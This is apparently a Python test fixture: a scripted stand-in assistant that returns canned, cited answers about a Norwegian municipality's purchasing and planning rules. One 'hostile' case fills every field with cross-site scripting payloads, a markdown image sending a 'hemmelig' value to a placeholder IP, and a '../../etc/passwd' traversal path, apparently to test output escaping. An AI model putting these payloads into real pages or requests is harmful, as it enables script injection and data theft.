"""An assistant that answers from a script: the window's other side, without an index or an encoder."""

from __future__ import annotations

import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

from ingest.plans import WordBox

DOCUMENTS = Path(__file__).parents[3] / "ingest" / "example" / "skogvang" / "documents"
ROUTINE = "documents/rutine-ombruk-mobler-ikt.pdf"
PLAY = "documents/temaplan-leike-og-naermiljoanlegg-2024-2032.pdf"
SCAN = "documents/anskaffelsesstrategi-2022-2025.pdf"
HANDBOOK = "documents/innkjopshandbok-v3-2.html"
PLAY_QUOTE = "Meir enn eitt av fire apparat er eldre enn 20 år."
HOSTILE = (
    "<script>window.PWN=1</script><img src=http://192.0.2.1/x.png onerror=window.PWN=1> "
    "![p](http://192.0.2.1/p.png?q=hemmelig) [klikk](javascript:window.PWN=1) <a href='http://192.0.2.1'>x</a>"
)

LEVELS = {
    "nb": (
        "Nasjonalt regelverk",
        "Kommuneplan",
        "Kommunedelplan og temaplan",
        "Underliggende planer og strategier",
    ),
    "nn": (
        "Nasjonalt regelverk",
        "Kommuneplan",
        "Kommunedelplan og temaplan",
        "Underliggjande planar og strategiar",
    ),
    "en": ("National rules", "Municipal plan", "Sub-plan", "Underlying plans and strategies"),
}
EXAMPLES = {
    "nb": (
        "Må vi sjekke ombrukslageret før vi kjøper stoler?",
        "Hvem kan godkjenne nykjøp?",
        "Gjelder utkastet til ny klimaplan?",
    ),
    "nn": ("Kor mange apparat er eldre enn 20 år?", "Må vi sjå etter brukte møblar først?"),
    "en": ("Must we look for used furniture first?", "Does the draft climate plan apply?"),
}


def citation(marker: int, role: str, level: int, **more: Any) -> dict[str, Any]:
    made = {
        "marker": marker,
        "plan_id": f"P{marker}",
        "version": None,
        "file": ROUTINE,
        "title": "Rutine for ombruk av møbler og IKT",
        "level": level,
        "level_name": LEVELS["nb"][level - 1],
        "section": "§ 3.1",
        "page": 2,
        "quote": "Ombrukslageret er kommunens felles lager for brukte møbler.",
        "role": role,
        "reason": "",
        "language": "nb",
        "adopted_on": "2025-09-01",
        "valid_from": "2025-09-01",
        "valid_to": None,
    }
    return made | more


def contract(question: Mapping[str, Any], **more: Any) -> dict[str, Any]:
    cited = more.get("citations", [])
    first = {c["role"]: c for c in reversed(cited)}
    made: dict[str, Any] = {
        "schema": 1,
        "id": question.get("id"),
        "question": question["question"],
        "language": "nb",
        "as_of": question.get("as_of") or "2026-11-20",
        "outcome": "answered",
        "answer": "",
        "force": "none",
        "governing": first.get("governing"),
        "authority": first.get("authority"),
        "why": "",
        "precedence": [],
        "citations": [],
        "choices": [],
        "ask_next": None,
        "passages": [],
        "notices": [],
        "composer": "extractive",
        "ai_generated": True,
        "timings_ms": {"total": 3.0},
    }
    return made | more


def with_authority(question: Mapping[str, Any]) -> dict[str, Any]:
    return contract(
        question,
        answer="Ja. Dere **må** sjekke ombrukslageret før dere kjøper nye stoler. [1][2]",
        force="obligation",
        why="Rutinen er strengere enn anskaffelsesstrategien, og et lavere nivå kan skjerpe.",
        citations=[
            citation(1, "governing", 4),
            citation(
                2,
                "authority",
                3,
                title="Klima- og energiplan 2021–2030",
                section="Mål T1",
                page=7,
                file="documents/klima-og-energiplan-2021-2030.pdf",
                valid_to="2030-12-31",
                quote="Kommunen skal bruke det den har, før den kjøper nytt.",
            ),
            citation(
                3,
                "yields",
                4,
                title="Innkjøpshåndbok v3.2",
                section="kap. 4",
                page=None,
                file=HANDBOOK,
                quote="Det er lurt å se etter brukt først.",
                reason="Håndboka er bare råd.",
            ),
            citation(
                4,
                "not_in_force",
                3,
                title="Høringsutkast klima, energi og sirkulær økonomi 2026–2036",
                quote="Alle møbler skal være brukte.",
                reason="Utkastet er ikke vedtatt.",
            ),
        ],
        precedence=[{"winner": 1, "loser": 3, "maxim": "advice_yields", "reason": "Håndboka er bare råd."}],
        ask_next="Innkjøp",
    )


def rule_with_more(question: Mapping[str, Any]) -> dict[str, Any]:
    """A rule with two more sentences of its section, said word for word, and what gives it force."""
    quotes = (
        "Ombrukslageret skal sjekkes før kjøp av møbler.",
        "Finner du nesten det du trenger, spør du Eiendom om møblene kan repareres eller tilpasses.",
        "Svaret sier om lageret har noe, eller om det er ventet inn noe i løpet av en måned.",
    )
    said = " ".join(f"«{quote}» [{marker}]" for marker, quote in enumerate(quotes, 1))
    return contract(
        question,
        answer=f"Du må følge dette: {said} Regelen bygger på Kommunedelplan klima og energi [4].",
        force="obligation",
        notices=["Jeg leste spørsmålet slik: «Må vi sjekke ombrukslageret først?»"],
        citations=[
            *(
                citation(
                    marker,
                    "governing" if marker == 1 else "supports",
                    4,
                    plan_id="S5",
                    section="4.1",
                    page=3,
                    quote=quote,
                    reason="styrer svaret" if marker == 1 else "sier mer om regelen",
                )
                for marker, quote in enumerate(quotes, 1)
            ),
            citation(4, "authority", 3, title="Kommunedelplan klima og energi", reason="gir regelen kraft"),
            citation(
                5, "yields", 4, title="Innkjøpshåndbok v3.2", quote="Se etter brukt.", reason="bare råd"
            ),
        ],
    )


def purchase(question: Mapping[str, Any]) -> dict[str, Any]:
    """Three steps, the last of them from the law."""
    cited = [
        citation(1, "governing", 4),
        citation(
            2, "governing", 4, title="Anskaffelsesreglement", section="§ 10", quote="Enhetsleder godkjenner."
        ),
        citation(3, "governing", 1, title="Anskaffelsesregler", section="§ 5b", quote="Miljø skal vektes."),
    ]
    named = (("reuse", "Ombruk først", "obligation"), ("sign", "Hvem som godkjenner", "information"))
    steps = [
        {"step": step, "name": name, "force": force, "level": made["level"], "markers": [made["marker"]]}
        | {
            "text": f"(må, nivå 4): «{made['quote']}» [{made['marker']}]",
            "plan_id": made["plan_id"],
            "why": "",
        }
        for made, (step, name, force) in zip(
            cited, (*named, ("environment", "Miljøkrav", "target")), strict=True
        )
    ]
    lines = "\n".join(f"- **{step['name']}** {step['text']}" for step in steps)
    return contract(
        question,
        answer=f"Dette sier planene om kjøpet, steg for steg.\n\n{lines}\n\nBeløpet er regnet uten mva.",
        force="obligation",
        citations=cited,
        steps=steps,
        ask_next="Innkjøp",
    )


def nynorsk(question: Mapping[str, Any]) -> dict[str, Any]:
    return contract(
        question,
        language="nn",
        answer="Meir enn eitt av fire apparat er eldre enn 20 år. [1]",
        force="information",
        citations=[
            citation(
                1,
                "governing",
                3,
                title="Temaplan for leike- og nærmiljøanlegg 2024–2032",
                page=4,
                file=PLAY,
                section="2.1",
                quote=PLAY_QUOTE,
                language="nn",
                adopted_on="2024-10-24",
            )
        ],
    )


def english(question: Mapping[str, Any]) -> dict[str, Any]:
    return with_authority(question) | {
        "language": "en",
        "answer": "Yes. You must look in the reuse store first. [1]",
        "why": "The routine is stricter than the strategy, and a lower level may tighten.",
    }


def abstained(question: Mapping[str, Any]) -> dict[str, Any]:
    return contract(
        question,
        outcome="abstained",
        answer="Planene sier ikke noe om flytende båthus.",
        ask_next="Plan og miljø",
    )


def unresolved(question: Mapping[str, Any]) -> dict[str, Any]:
    return contract(
        question,
        outcome="unresolved",
        answer="To planer fra samme organ peker hver sin vei. [1][2]",
        citations=[
            citation(
                1,
                "governing",
                3,
                title="Temaplan for kommunale bygg 2023–2033",
                reason="Nyere, men generell.",
            ),
            citation(
                2,
                "supports",
                3,
                title="Temaplan for leike- og nærmiljøanlegg",
                reason="Eldre, men mer spesiell.",
            ),
        ],
        ask_next="Kommunedirektøren",
    )


def clarification(question: Mapping[str, Any]) -> dict[str, Any]:
    if question.get("history"):
        return with_authority(question) | {"answer": f"For {question['question']}: må. [1]"}
    return contract(
        question,
        outcome="needs_clarification",
        answer="Gjelder det møbler eller IKT-utstyr?",
        choices=["Møbler", "IKT-utstyr"],
    )


def draft(question: Mapping[str, Any]) -> dict[str, Any]:
    return with_authority(question) | {
        "answer": "Nei. Utkastet gjelder ikke før det er vedtatt. [1]",
        "force": "target",
        "notices": ["draft", "expired_not_replaced", "Klimaplanen revideres i 2027."],
    }


def hostile(question: Mapping[str, Any]) -> dict[str, Any]:
    return contract(
        question,
        answer=f"{HOSTILE} [1]",
        force="obligation",
        why=HOSTILE,
        citations=[
            citation(1, "governing", 4, title=HOSTILE, section=HOSTILE, quote=HOSTILE, language='"><script>'),
            citation(2, "yields", 2, reason=HOSTILE, file="../../etc/passwd"),
        ],
        choices=[HOSTILE],
        notices=[HOSTILE],
        ask_next=HOSTILE,
    )


SCRIPT = (
    ("utkast", draft),
    ("draft", draft),
    ("apparat", nynorsk),
    ("båthus", abstained),
    ("uenige", unresolved),
    ("utstyr", clarification),
    ("møbler", clarification),
    ("hostile", hostile),
    ("must we", english),
    ("pulter", rule_with_more),
    ("80 000", purchase),
)


class ScriptedAssistant:
    """`delay` in seconds; `asked` keeps what it was asked."""

    def __init__(self, delay: float = 0.0) -> None:
        self.delay = delay
        self.asked: list[dict[str, Any]] = []
        self.municipality: Mapping[str, Any] = {
            "id": "skogvang",
            "name": "Skogvang kommune",
            "languages": ["nb", "nn", "en"],
        }

    def answer(self, question: dict[str, Any]) -> dict[str, Any]:
        self.asked.append(question)
        time.sleep(self.delay)
        if question["question"] == "break":
            raise ValueError("as the script says")
        words = question["question"].lower()
        return next((reply for word, reply in SCRIPT if word in words), with_authority)(question)

    def levels(self, language: str) -> Sequence[Mapping[str, Any]]:
        return [{"rank": rank, "name": name} for rank, name in enumerate(LEVELS[language], 1)]

    def examples(self, language: str) -> Sequence[str]:
        return EXAMPLES[language]

    def original(self, file: str) -> Path | None:
        known = {f"documents/{path.name}": path for path in DOCUMENTS.iterdir()}
        return known.get(file)

    def page_text(self, file: str, page: int | None) -> str:
        if file == SCAN:
            return "Anskaffelsesstrategi 2022–2025\nSkogvang kommune skal kjøpe mindre nytt."
        return "Innkjøpshåndbok\n\nDet er lurt å se etter brukt først. <b>Husk</b> å spørre Innkjøp."

    def recognised_words(self, file: str, page: int) -> Sequence[WordBox]:
        """The last two words of the scan's text, one after the other on a line."""
        if file != SCAN:
            return ()
        text = self.page_text(file, page)
        first, last = text.index("mindre"), text.index("nytt")
        return (
            WordBox(first, first + len("mindre"), 0.3, 0.4, 0.1, 0.02),
            WordBox(last, last + len("nytt"), 0.42, 0.4, 0.06, 0.02),
        )
